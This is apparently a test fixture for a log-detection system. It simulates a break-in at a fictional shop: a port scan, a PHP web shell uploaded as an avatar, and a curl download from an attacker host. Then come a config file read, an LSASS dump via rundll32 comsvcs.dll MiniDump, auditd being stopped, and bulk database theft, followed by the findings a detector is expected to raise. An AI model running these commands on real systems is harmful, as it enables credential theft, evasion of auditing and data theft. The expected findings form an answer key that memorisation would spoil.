/**
 * The first case: someone scans the company on Thursday evening, gets in through the shop's picture upload, and has left
 * with the customer database before one in the morning. Nine logs have a part of it, none has two that explain each other.
 */
import { MINUTE, SECOND, at } from "./book.mjs";
import { database, firewall, ids, linux, portal, SIGNATURES, web } from "./systems.mjs";
import { windows } from "./windows.mjs";
import { person, publicAddress, servers, staff } from "./world.mjs";

export const INTRUDER = "203.0.113.66";
const HOME = "198.51.100.23";
const AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
const PORTS = [21, 22, 23, 25, 53, 80, 81, 110, 111, 135, 139, 143, 389, 445, 465, 587, 631, 993, 995, 1433];
const MORE_PORTS = [1521, 2049, 3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200, 27017];

function scan() {
  [...PORTS, ...MORE_PORTS].forEach((port, i) => {
    const marks = i < 20 ? ["scan"] : [];
    const time = at("06-11 22:40:05") + i * 3 * SECOND;
    firewall.denied(time, INTRUDER, publicAddress.web1, port, { marks });
    if (port === 3306) ids.alert(time + 4, "ids-zrh", INTRUDER, publicAddress.web1, SIGNATURES.mysql, null);
    if (port === 5900) ids.alert(time + 6, "ids-gva", INTRUDER, publicAddress.web1, SIGNATURES.vnc, null);
  });
}

function probe() {
  const names = ["admin", "phpmyadmin", "wp-login", "backup", "test", "config", "shell", "db", "old", "setup", "cgi"];
  for (let i = 0; i < 44; i++) {
    const time = at("06-11 22:55:10") + i * 4 * SECOND;
    const url = `/${names[i % names.length]}${Math.floor(i / names.length) || ""}.php`;
    const marks = i < 25 ? ["probe"] : [];
    web.request(time, INTRUDER, "GET", url, 404, 153, "Mozilla/5.00 (Nikto/2.5.0)", { marks });
    const http = { hostname: "shop.tidewater.example", http_method: "GET", url, status: 404 };
    if (i % 4 === 0) ids.alert(time + 30, "ids-zrh", INTRUDER, servers.web1, SIGNATURES.nikto, http);
  }
}

function exploit() {
  const upload = at("06-11 23:18:20");
  const shell = "/uploads/avatar_7712.php";
  web.request(upload, INTRUDER, "POST", "/portal/profile/avatar", 200, 87, AGENT, {
    marks: ["exploit", "shell", "foothold"],
  });
  const http = { hostname: "shop.tidewater.example", http_method: "POST", url: "/portal/profile/avatar", status: 200 };
  ids.alert(upload + 412, "ids-zrh", INTRUDER, servers.web1, SIGNATURES.phpUpload, http, { marks: ["exploit"] });
  const fields = { file: { name: "avatar_7712.php", size: 1184 } };
  portal.event(upload + 530, "avatar.store", "C-104812", INTRUDER, "avatar stored", { fields });
  const commands = [
    [21, "id", "/usr/bin/id"],
    [42, "uname+-a", "/usr/bin/uname"],
    [75, "cat+/etc/passwd", "/usr/bin/cat"],
    [190, `curl+http://${HOME}/k+-o+/tmp/.k`, "/usr/bin/curl"],
  ];
  commands.forEach(([after, command, exe], i) => {
    const time = upload + after * SECOND;
    const marks = i === 0 ? ["shell", "foothold"] : [];
    web.request(time, INTRUDER, "GET", `${shell}?c=${command}`, 200, 40 + after, AGENT, { marks });
    const first = i === 0 ? ["execution", "foothold"] : [];
    const args = ["sh", "-c", command.replaceAll("+", " ")];
    linux.execve(time + SECOND, "web1", { uid: 33, exe: "/usr/bin/dash", args }, { marks: first });
    linux.execve(time + SECOND, "web1", { uid: 33, exe, args: command.split("+") });
  });
  const built = { marks: ["call", "foothold"] };
  firewall.outbound(upload + 192 * SECOND, "dmz", servers.web1, HOME, 80, 1, 48_211, { built });
  const url = { hostname: HOME, http_method: "GET", url: "/k", status: 200 };
  ids.alert(upload + 192 * SECOND + 90, "ids-zrh", servers.web1, HOME, SIGNATURES.curlOut, url);
}

function stealPasswords() {
  const args = ["cat", "/var/www/portal/config/database.yml"];
  linux.execve(
    at("06-11 23:25:09"),
    "web1",
    { uid: 33, exe: "/usr/bin/cat", args, key: "secrets" },
    { marks: ["secrets"] },
  );
  staff.slice(0, 14).forEach(({ user }, i) => {
    const time = at("06-11 23:31:00") + i * 20 * SECOND + 137;
    windows.refused(time, "dc1", user, servers.web1, { marks: i < 10 ? ["spray"] : [] });
  });
  const pivot = at("06-11 23:44:10") + 482;
  windows.loggedOn(pivot, "file1", "svc_report", servers.web1, 3, { marks: ["pivot"] });
  const rundll = "C:\\Windows\\System32\\rundll32.exe";
  const command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 628 C:\\Windows\\Temp\\d.bin full";
  const shell = "C:\\Windows\\System32\\cmd.exe";
  const dump = at("06-11 23:52:30") + 61;
  windows.started(
    dump - 4_000,
    "file1",
    "svc_report",
    shell,
    "cmd.exe /c whoami /groups",
    "C:\\Windows\\System32\\wsmprovhost.exe",
  );
  windows.started(dump, "file1", "svc_report", rundll, command, shell, { marks: ["dump", "credentials"] });
}

function stealData() {
  const { user } = person("adm.keller");
  const entry = at("06-12 00:20:15");
  linux.sshIn(entry, "db1", user, servers.file1, "password", 2700, { marks: ["credentials"] });
  linux.sudo(entry + 3 * MINUTE, "db1", user, "/usr/bin/systemctl stop auditd");
  linux.systemd(entry + 3 * MINUTE + SECOND, "db1", "Stopped auditd.service - Security Auditing Service.", {
    marks: ["blind"],
  });
  ["customers", "orders", "payment_methods"].forEach((table, i) => {
    const time = at("06-12 00:31:10") + i * 90 * SECOND;
    const sql = `SELECT /*!40001 SQL_NO_CACHE */ * FROM \`${table}\``;
    database.query(time, user, "10.30.0.21", 48_213, "select", sql, { marks: ["theft"] });
    const rows = 184_223 - i * 20_000;
    // The first answer of that size is the one that the rule takes.
    const slow = { marks: i === 0 ? ["theft"] : [] };
    database.slow(time + 41_000, user, "10.30.0.21", 48_213, 40.8, rows, rows, sql, slow);
  });
  for (let i = 0; i < 3; i++) {
    const time = at("06-12 00:40:00") + i * 5 * MINUTE;
    const ended = { marks: ["upload"] };
    firewall.outbound(time, "dmz", servers.web1, HOME, 443, 210, 244_318_208 + i * 1_048_576, { ended });
  }
}

/** What must be found of it: rule, severity, key, and the marks of the lines that say so. */
export function intrusion(found) {
  scan();
  probe();
  exploit();
  stealPasswords();
  stealData();
  found("port_scan", "low", { ip: INTRUDER }, ["scan"]);
  found("web_probe", "low", { ip: INTRUDER }, ["probe"]);
  found("exploit_worked", "medium", { ip: INTRUDER }, ["exploit"]);
  found("web_shell", "high", { ip: INTRUDER }, ["shell"]);
  found("web_server_runs_shell", "high", { device: "web1" }, ["execution"]);
  found("server_calls_out", "medium", { server: "web1" }, ["call"]);
  found("web_foothold", "high", { server: "web1" }, ["foothold"]);
  found("secrets_read", "medium", { device: "web1" }, ["secrets"]);
  found("password_spray", "medium", { ip: servers.web1 }, ["spray"]);
  found("service_account_elsewhere", "medium", { user: "svc_report" }, ["pivot"]);
  found("lsass_dump", "high", { device: "file1" }, ["dump"]);
  found("stolen_credentials", "high", { server: "file1" }, ["credentials"]);
  found("auditing_stopped", "medium", { device: "db1" }, ["blind"], { after: 10 * MINUTE });
  found("bulk_read", "high", { user: "adm.keller" }, ["theft"]);
  found("large_upload", "medium", { server: "web1" }, ["upload"]);
  found("database_theft", "critical", {}, ["foothold", "pivot", "credentials", "theft", "upload"]);
}
